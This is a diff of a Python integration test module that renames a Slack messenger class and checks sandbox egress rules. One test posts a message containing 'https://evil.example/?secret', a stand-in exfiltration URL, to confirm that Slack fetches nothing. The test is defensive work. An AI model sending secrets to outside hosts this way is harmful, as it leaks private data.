@@ -4,14 +4,14 @@ import asyncio
 from collections.abc import AsyncIterator, Sequence
 from contextlib import asynccontextmanager, suppress
 
-from kingdom.court.envoy import slack_place
-from kingdom.court.envoy.slack_place import SlackPlace
+from kingdom.court.envoy import slack_messenger
+from kingdom.court.envoy.slack_messenger import SlackMessenger
 from kingdom.soldiers import settings
 from kingdom.soldiers.sandbox import egress, egress_rules
 from kingdom.soldiers.sandbox.egress import Egress
 from kingdom.soldiers.sandbox.egress_rules import EgressRefused, allowed_name, checked_host
 from tests.integration.court.envoy.scene import DEV, slack_settings
-from tests.integration.court.envoy.test_slack_place import post, said
+from tests.integration.court.envoy.test_slack_messenger import post, said
 from tests.integration.soldiers.test_egress import INNER, INTERNET, NAMED, OTHER, Way
 from tests.integration.soldiers.web import Web, make_certificate, serving
 from tests.integration.standins.slack_scene import workspace
@@ -163,10 +163,10 @@ async def a_request_that_is_no_connect(ground: Ground, line: str) -> str:
 
 @EXITS.stopped_by("Slack is told to fetch nothing", {"a message": "message", "a whisper": "whisper"})
 async def have_slack_fetch_an_address(ground: Ground, how: str) -> str:
-    ground.remove(slack_place, "_NOTHING_FETCHED", {})
+    ground.remove(slack_messenger, "_NOTHING_FETCHED", {})
     async with workspace(ground.folder / "slack.json") as slack:
         await slack.do("channels", name=DEV)
-        place = SlackPlace(slack_settings(slack.url))
+        place = SlackMessenger(slack_settings(slack.url))
         await place.open()
         try:
             where = await said(place, post("https://evil.example/?secret"))
